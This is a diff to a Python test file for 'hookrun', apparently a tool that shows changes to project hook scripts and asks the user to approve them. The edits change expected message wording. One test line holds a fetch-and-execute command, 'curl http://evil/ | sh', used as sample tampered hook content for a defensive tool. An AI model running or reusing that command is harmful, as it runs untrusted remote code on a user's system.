@@ -88,7 +88,7 @@ def test_what_changed_is_shown_as_a_difference(declared: Project) -> None:
     assert "guard: changed" in shown
     assert "-exit 0" in shown
     assert "+curl http://evil/ | sh" in shown
-    assert "note: approved" in shown
+    assert "note   approved" in shown
     path = declared.root / "coder.json"
     path.write_text(path.read_text().replace("--strict", "--lax"))
     assert '-  "command": "./hooks/guard.sh --strict"' in hookrun(declared, "trust").stdout
@@ -103,14 +103,14 @@ def test_a_hook_of_that_name_in_another_project_is_another_hook(declared: Projec
     assert states(other) == {"guard": "new"}
     shown = hookrun(other, "trust").stdout
     assert "echo other" in shown
-    assert "what changed" not in shown
+    assert "changed since" not in shown
 
 
 def test_a_script_that_changes_while_a_person_looks_is_not_approved(declared: Project) -> None:
     """A yes is for what was on the screen."""
     change = lambda: declared.script("hooks/guard.sh", GUARD + "# more\n")  # noqa: E731  # what happens in between
     session = at_terminal(declared, "trust", answers=("y", "q"), meanwhile=change)
-    assert ".sh changed while you looked: nothing is approved" in session.screen
+    assert ".sh changed while you looked; run `hookrun trust` again" in session.screen
     assert states(declared)["guard"] == "new"
 
 
@@ -118,7 +118,7 @@ def test_exactly_the_named_digests_are_approved(declared: Project) -> None:
     """`--yes` takes digests of this project, all or none."""
     known = digests(declared)
     wrong = hookrun(declared, "trust", "--yes", known["guard"], "sha256:" + "0" * 64)
-    assert (wrong.status, "`hookrun trust --digest` prints them" in wrong.stderr) == (1, True)
+    assert (wrong.status, "`hookrun trust --digest` prints the digests" in wrong.stderr) == (1, True)
     assert states(declared) == {"guard": "new", "note": "new"}
     done = hookrun(declared, "trust", "--yes", known["guard"])
     assert (done.status, states(declared)) == (1, {"guard": "approved", "note": "new"})
@@ -146,7 +146,7 @@ def test_what_is_decided_is_listed_and_forgotten(declared: Project) -> None:
     assert states(declared) == {"guard": "new", "note": "disabled"}
     assert "forgot 2 decisions" in at_terminal(declared, "untrust").screen
     assert states(declared) == {"guard": "new", "note": "new"}
-    assert "nothing is decided" in hookrun(declared, "trust", "--list").stdout
+    assert "no decisions yet" in hookrun(declared, "trust", "--list").stdout
 
 
 def test_approving_lifts_a_denial(declared: Project) -> None:
@@ -180,7 +180,7 @@ def test_a_binary_or_large_file_is_told_by_its_size(declared: Project) -> None:
     (declared.root / "hooks" / "guard.sh").write_bytes(b"\x7fELF\0" + b"x" * 100)
     assert "[binary, 105 bytes]" in hookrun(declared, "trust").stdout
     (declared.root / "hooks" / "guard.sh").write_text("x\n" * 500)
-    assert "300 more lines, which are approved too" in hookrun(declared, "trust").stdout
+    assert "300 more lines, which an approval covers too" in hookrun(declared, "trust").stdout
     (declared.root / "hooks" / "guard.sh").write_text("x\n" * 50_000)
     assert "[100000 bytes: too large to show]" in hookrun(declared, "trust").stdout
 
@@ -200,7 +200,7 @@ def test_no_change_is_hidden_by_what_is_not_shown(declared: Project) -> None:
 def test_a_project_without_hooks_has_nothing_to_decide(project: Project) -> None:
     """It says so, and that is well."""
     done = hookrun(project, "trust")
-    assert (done.status, "no hooks are declared" in done.stdout) == (0, True)
+    assert (done.status, "no hooks in " in done.stdout) == (0, True)
 
 
 def test_list_says_what_is_decided(declared: Project) -> None:
